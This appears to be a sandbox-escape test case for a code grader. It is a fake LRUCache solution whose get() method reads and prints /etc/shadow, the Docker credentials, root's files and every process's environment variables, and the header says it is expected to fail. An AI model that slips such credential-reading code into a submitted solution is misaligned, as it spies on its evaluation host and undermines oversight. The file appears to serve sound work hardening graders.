# expect: failed
# backends: docker local
# why: prints every process's environment and command line it can read, the mounts, and files
# why: of the grader's host (shadow, root's home, the Docker config)
import glob


def _read(path, limit=4000):
    try:
        with open(path, "rb") as fh:
            return fh.read(limit).decode("utf-8", "replace").replace("\0", " ")
    except OSError as exc:
        return f"<{type(exc).__name__}>"


class LRUCache:
    def __init__(self, capacity):
        pass

    def get(self, key):
        paths = ["/proc/self/mounts", "/proc/self/mountinfo", "/etc/shadow", "/root/.bashrc",
                 "/root/.docker/config.json", "/proc/1/environ", "/proc/self/status"]
        paths += glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline")
        for path in paths:
            print(path, _read(path))
        return -1

    def put(self, key, value):
        pass
